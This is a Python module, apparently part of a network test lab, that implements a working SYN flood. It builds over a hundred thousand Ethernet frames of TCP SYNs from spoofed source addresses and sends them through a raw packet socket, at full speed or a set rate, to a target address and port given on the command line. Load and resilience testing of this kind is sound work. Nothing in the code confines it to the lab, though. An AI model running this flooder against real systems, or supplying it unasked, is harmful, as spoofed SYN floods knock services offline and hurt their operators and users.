"""A SYN flood: frames of TCP SYNs from addresses that nobody has, sent at once or at a rate, until told to stop. It waits for no answer.

Each frame is another client's; there are so many that none comes again before the flows of the first ones are long forgotten.
Run inside the clients' namespace: python3 -m lab.syns --device eth0 --mac CLUSTER --target ADDRESS [--rate N]
At SIGINT it prints how many it sent, and in how many seconds.
"""

import argparse
import json
import random
import signal
import socket
import struct
import time

from . import prober

DIFFERENT = 1 << 17
BATCH = 64
SOURCE_MAC = bytes.fromhex("02c100000002")


def frames_of(mac, target, port):
    chance = random.Random(80)
    head = bytes.fromhex(mac.replace(":", "")) + SOURCE_MAC + b"\x08\x00"
    goal = socket.inet_aton(target)
    for number in range(DIFFERENT):
        source = struct.pack(">BBH", 10, number >> 12 & 0xFF, chance.randrange(1 << 16))
        packet = prober.syn(source, goal, chance.randrange(1024, 65536), port, chance.getrandbits(32))
        yield head + packet[:10] + struct.pack(">H", prober.checksum(packet[:20])) + packet[12:]


def send(device, frames, rate, stopped):
    """Returns how many, and the seconds."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((device, 0))
        began, sent = time.monotonic(), 0
        while not stopped:
            at = sent % DIFFERENT
            for frame in frames[at : at + BATCH]:
                try:
                    raw.send(frame)
                except OSError:
                    pass  # a full queue of the device: one less
            sent += BATCH
            if rate:
                time.sleep(max(0.0, began + sent / rate - time.monotonic()))
        return sent, time.monotonic() - began


def main():
    parser = argparse.ArgumentParser(description="SYN flood")
    parser.add_argument("--device", required=True)
    parser.add_argument("--mac", required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--rate", type=int, default=0, help="frames a second; 0: what one core can send")
    options = parser.parse_args()
    stopped = []
    signal.signal(signal.SIGINT, lambda *_: stopped.append(True))
    frames = list(frames_of(options.mac, options.target, options.port))
    print("floods", flush=True)
    count, seconds = send(options.device, frames, options.rate, stopped)
    print(json.dumps({"frames": count, "seconds": seconds}), flush=True)


if __name__ == "__main__":
    main()
